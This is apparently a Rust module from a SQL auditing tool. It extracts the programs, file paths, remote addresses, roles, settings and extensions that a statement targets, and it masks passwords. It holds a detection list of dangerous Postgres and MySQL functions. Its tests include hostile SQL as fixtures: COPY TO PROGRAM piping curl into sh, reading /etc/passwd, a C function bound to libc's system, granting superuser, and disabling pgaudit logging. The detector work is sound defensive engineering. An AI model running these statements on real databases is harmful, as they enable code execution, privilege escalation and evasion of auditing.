//! What a statement aims at: the program, path, address, role or setting that the normal form
//! folds away, and that makes two acts of one kind different.

use std::borrow::Cow;
use std::fmt;

use crate::Dialect;
use crate::lexer::{Expect, Kind, Lexer, Token};
use crate::secret::redact_secrets;

/// Tokens that are looked at, from the head of the statement.
const TOKENS_MAX: usize = 4_096;

/// Targets of one statement.
const TARGETS_MAX: usize = 16;

/// Longest value, in bytes.
const VALUE_BYTES_MAX: usize = 200;

/// Bytes of the text that a value is made of: a name in a name in a name may each be all the text.
const SOURCE_BYTES_MAX: usize = 4_096;

/// What kind of thing a statement aims at.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum TargetKind {
    /// A program that the server runs.
    Program,
    /// A file or folder of the server.
    Path,
    /// Another server, by its address; never a password.
    Address,
    /// An account or role, with what it is given.
    Role,
    /// A setting, with its value.
    Setting,
    /// An extension, language or library that is loaded.
    Extension,
}

/// One thing that a statement aims at.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Target {
    /// What kind of thing it is.
    pub kind: TargetKind,
    /// Its name as written, cut at 200 bytes; the expression, if it is computed.
    pub value: String,
    /// Whether it is no plain literal, so that only the server knows what it comes to.
    pub is_computed: bool,
}

impl TargetKind {
    const fn as_str(self) -> &'static str {
        match self {
            Self::Program => "program",
            Self::Path => "path",
            Self::Address => "address",
            Self::Role => "role",
            Self::Setting => "setting",
            Self::Extension => "extension",
        }
    }
}

/// `program /opt/etl/fetch.sh`.
impl fmt::Display for Target {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let computed = if self.is_computed { "computed " } else { "" };
        write!(f, "{} {computed}{}", self.kind.as_str(), self.value)
    }
}

/// What `sql` aims at, in the order of the text, without repeats. Passwords are masked. It reads
/// the text anew: call it for statements that have been found, not for all.
pub fn targets(sql: &str, dialect: Dialect) -> Vec<Target> {
    read(&redact_secrets(sql, dialect), dialect).found
}

fn read(sql: &str, dialect: Dialect) -> Reader<'_> {
    let mut lexer = Lexer::new(sql.as_bytes(), dialect);
    let mut tokens = Vec::new();
    while tokens.len() < TOKENS_MAX {
        let token = lexer.next(Expect::default());
        if token.kind == Kind::End {
            break;
        }
        tokens.push(token);
    }
    let mut reader = Reader { sql, tokens, found: Vec::new(), work: 0 };
    reader.read();
    reader
}

struct Reader<'a> {
    sql: &'a str,
    tokens: Vec<Token<'a>>,
    found: Vec<Target>,
    /// Bytes that values were made of.
    work: usize,
}

impl Reader<'_> {
    fn read(&mut self) {
        let is_copy = self.word(0) == "copy";
        for at in 0..self.tokens.len() {
            match self.word(at).as_str() {
                "program" => self.literal(at + 1, TargetKind::Program),
                "outfile" | "dumpfile" | "infile" => self.literal(at + 1, TargetKind::Path),
                "from" | "to" if is_copy => self.literal(at + 1, TargetKind::Path),
                "pg_read_file"
                | "pg_read_binary_file"
                | "pg_ls_dir"
                | "pg_stat_file"
                | "lo_import"
                | "load_file" => self.argument(at, 0, TargetKind::Path),
                "lo_export" => self.argument(at, 1, TargetKind::Path),
                "dblink" | "dblink_connect" | "dblink_connect_u" | "dblink_exec"
                | "dblink_send_query" => self.argument(at, 0, TargetKind::Address),
                "http_get" | "http_post" | "http" => self.argument(at, 0, TargetKind::Address),
                _ => {}
            }
        }
        match self.word(0).as_str() {
            "alter" | "create" | "drop" => self.definition(),
            "grant" | "revoke" => self.grant(),
            "set" => self.setting(1),
            _ => {}
        }
    }

    /// `ALTER SYSTEM SET …`, `ALTER ROLE … SUPERUSER`, `CREATE EXTENSION …`.
    fn definition(&mut self) {
        let mut at = 1;
        while ["or", "replace", "trusted", "procedural", "if", "not", "exists"]
            .contains(&self.word(at).as_str())
        {
            at += 1;
        }
        match self.word(at).as_str() {
            "system" => self.setting(at + 2),
            "role" | "user" | "group" => {
                let name = self.name(at + 1);
                let given = ["superuser", "createrole", "createdb", "replication", "bypassrls"];
                let words = (at + 2..self.tokens.len().min(at + 64)).map(|at| self.word(at));
                let given: Vec<String> =
                    words.filter(|word| given.contains(&word.trim_start_matches("no"))).collect();
                self.add(TargetKind::Role, &[&[name], &given[..]].concat().join(" "), false);
                self.set_clause(at + 2);
            }
            "database" => self.set_clause(at + 2),
            "extension" | "language" | "server" | "library" => {
                let mut name = at + 1;
                while ["if", "not", "exists"].contains(&self.word(name).as_str()) {
                    name += 1;
                }
                let name = self.name(name);
                self.add(TargetKind::Extension, &name, false);
            }
            "function" | "procedure" => {
                let is_c = (at..self.tokens.len().saturating_sub(1))
                    .any(|at| self.word(at) == "language" && self.word(at + 1) == "c");
                let library = (at..self.tokens.len())
                    .find(|at| ["as", "soname"].contains(&self.word(*at).as_str()));
                if let Some(library) = library.filter(|_| is_c) {
                    self.literal(library + 1, TargetKind::Extension);
                }
            }
            _ => {}
        }
    }

    /// The first `SET name = value` after `from`.
    fn set_clause(&mut self, from: usize) {
        let last = self.tokens.len().min(from + 32);
        if let Some(set) = (from..last).find(|at| self.word(*at) == "set") {
            self.setting(set + 1);
        }
    }

    /// `GRANT a, b TO c`, which gives roles; with ON it gives privileges, which are no roles.
    fn grant(&mut self) {
        let words = (0..self.tokens.len().min(256)).map(|at| self.word(at)).collect::<Vec<_>>();
        if words.iter().any(|word| word == "on") {
            return;
        }
        let text: Vec<String> = (1..words.len()).map(|at| self.text(at).to_owned()).collect();
        self.add(TargetKind::Role, &text.join(" "), false);
    }

    /// `name = value` or `name TO value` from `at` on.
    fn setting(&mut self, mut at: usize) {
        while ["session", "local", "global", "persist"].contains(&self.word(at).as_str()) {
            at += 1;
        }
        let (Some(first), Some(last)) = (self.tokens.get(at), self.tokens.last()) else { return };
        let end = self.tokens.iter().skip(at).find(|token| token.kind == Kind::Semicolon);
        let end = end.map_or(last.end, |token| token.start);
        let text = lossy_head(self.sql.as_bytes().get(first.start..end).unwrap_or_default());
        self.add(TargetKind::Setting, &text, false);
    }

    /// A literal right here.
    fn literal(&mut self, at: usize, kind: TargetKind) {
        if let Some(token) = self.tokens.get(at)
            && matches!(token.kind, Kind::Text(_))
        {
            let text = lossy_head(token.text);
            self.add(kind, &text, false);
        }
    }

    /// An argument of the function whose name is here.
    fn argument(&mut self, at: usize, index: usize, kind: TargetKind) {
        if self.tokens.get(at + 1).is_none_or(|token| token.kind != Kind::Open) {
            return;
        }
        let (mut depth, mut skipped, mut first, mut end) = (0, 0, at + 2, at + 2);
        while let Some(token) = self.tokens.get(end) {
            match token.kind {
                Kind::Open => depth += 1,
                Kind::Close if depth == 0 => break,
                Kind::Close => depth -= 1,
                Kind::Comma if depth == 0 && skipped == index => break,
                Kind::Comma if depth == 0 => {
                    skipped += 1;
                    first = end + 1;
                }
                _ => {}
            }
            end += 1;
        }
        if skipped < index || first >= end {
            return;
        }
        if end == first + 1 && matches!(self.tokens[first].kind, Kind::Text(_)) {
            let text = String::from_utf8_lossy(self.tokens[first].text);
            let text = if kind == TargetKind::Address { address(&text).into() } else { text };
            return self.add(kind, &text, false);
        }
        let (from, to) = (self.tokens[first].start, self.tokens[end - 1].end);
        let text = lossy_head(self.sql.as_bytes().get(from..to).unwrap_or_default());
        self.add(kind, &text, true);
    }

    fn add(&mut self, kind: TargetKind, value: &str, is_computed: bool) {
        self.work += value.len();
        let words: Vec<&str> = value.split_whitespace().collect();
        let mut value = words.join(" ");
        value.truncate(value.floor_char_boundary(VALUE_BYTES_MAX));
        let target = Target { kind, value, is_computed };
        if self.found.len() < TARGETS_MAX
            && !target.value.is_empty()
            && !self.found.contains(&target)
        {
            self.found.push(target);
        }
    }

    /// The word here in lower case; empty for everything else.
    fn word(&self, at: usize) -> String {
        match self.tokens.get(at) {
            Some(token) if token.kind == Kind::Word => self.text(at).to_ascii_lowercase(),
            _ => String::new(),
        }
    }

    /// The name here, and what follows it behind dots.
    fn name(&self, at: usize) -> String {
        let mut name = self.text(at).to_owned();
        let mut at = at + 1;
        while self.tokens.get(at).is_some_and(|token| token.kind == Kind::Dot) {
            name.push('.');
            name.push_str(self.text(at + 1));
            at += 2;
        }
        name
    }

    fn text(&self, at: usize) -> &str {
        let token = self.tokens.get(at);
        token.and_then(|token| std::str::from_utf8(token.text).ok()).unwrap_or_default()
    }
}

/// As much of the text as a value can be made of.
fn lossy_head(text: &[u8]) -> Cow<'_, str> {
    String::from_utf8_lossy(&text[..text.len().min(SOURCE_BYTES_MAX)])
}

/// What of a connection string tells where it leads: host, port and database, or the address
/// without who logs in.
fn address(text: &str) -> String {
    if let Some((scheme, rest)) = text.split_once("://") {
        let end = rest.find(['/', '?']).unwrap_or(rest.len());
        let (authority, path) = rest.split_at(end);
        let host = authority.rsplit('@').next().unwrap_or_default();
        let path = path.split('?').next().unwrap_or_default();
        return format!("{scheme}://{host}{path}");
    }
    let told = ["host", "hostaddr", "port", "dbname", "service"];
    let pairs = text
        .split_whitespace()
        .filter(|pair| pair.split_once('=').is_some_and(|(name, _)| told.contains(&name.trim())));
    pairs.collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn shown(sql: &str) -> Vec<String> {
        targets(sql, Dialect::PostgreSql).iter().map(Target::to_string).collect()
    }

    #[test]
    fn acts_are_told_apart() {
        let cases = [
            ("copy stage from program '/opt/etl/fetch.sh'", "program /opt/etl/fetch.sh"),
            ("COPY (select 1) TO PROGRAM 'curl x | sh'", "program curl x | sh"),
            ("copy t to '/tmp/a.csv' csv", "path /tmp/a.csv"),
            ("select pg_read_file('/etc/passwd')", "path /etc/passwd"),
            (
                "select pg_catalog.pg_read_file ( '/etc/' || 'passwd', 0)",
                "path computed '/etc/' || 'passwd'",
            ),
            ("select lo_export(16, '/tmp/x.so')", "path /tmp/x.so"),
            (
                "select * from dblink('host=10.0.0.1 user=a password=b dbname=c', 'select 1')",
                "address host=10.0.0.1 dbname=c",
            ),
            ("alter role mallory with superuser login", "role mallory superuser"),
            ("grant pg_read_all_data to mallory", "role pg_read_all_data to mallory"),
            ("alter system set archive_command = 'id'", "setting archive_command = 'id'"),
            ("set pgaudit.log = 'none';", "setting pgaudit.log = 'none'"),
            ("create extension if not exists plpython3u", "extension plpython3u"),
            (
                "create function f() returns int language c as 'libc.so.6', 'system'",
                "extension libc.so.6",
            ),
        ];
        for (sql, expected) in cases {
            assert_eq!(shown(sql).first().map(String::as_str), Some(expected), "{sql}");
        }
        assert_eq!(shown("select a from t where id = 1"), [""; 0]);
        assert_eq!(shown("grant select on t to bo"), [""; 0]);
    }

    #[test]
    fn no_password_is_a_target() {
        for sql in [
            "select dblink_connect('postgresql://bo:hunter2@db/shop?password=hunter2')",
            "alter role bo password 'hunter2'",
            "select dblink('host=x password=hunter2', 'select 1')",
        ] {
            let shown = shown(sql).join(" ");
            assert!(!shown.contains("hunter2"), "{sql}: {shown}");
        }
    }

    #[test]
    fn the_work_does_not_grow_with_what_is_nested() {
        let long = "x".repeat(1 << 20);
        for sql in [
            "select ".to_owned() + &"dblink(".repeat(1_000) + "'" + &long + "'",
            "select ".to_owned() + &"dblink(".repeat(1_000) + &long + " b",
            "alter system set a = ".to_owned() + &long,
        ] {
            let work = read(&sql, Dialect::PostgreSql).work;
            assert!(work <= 1_000 * SOURCE_BYTES_MAX, "{work} bytes for {}", sql.len());
        }
    }

    proptest! {
        #[test]
        fn any_text_gives_bounded_targets(sql in ".{0,400}", my in any::<bool>()) {
            let dialect = if my { Dialect::MySql } else { Dialect::PostgreSql };
            let found = targets(&sql, dialect);
            prop_assert!(found.len() <= TARGETS_MAX);
            prop_assert!(found.iter().all(|target| target.value.len() <= VALUE_BYTES_MAX));
        }
    }
}
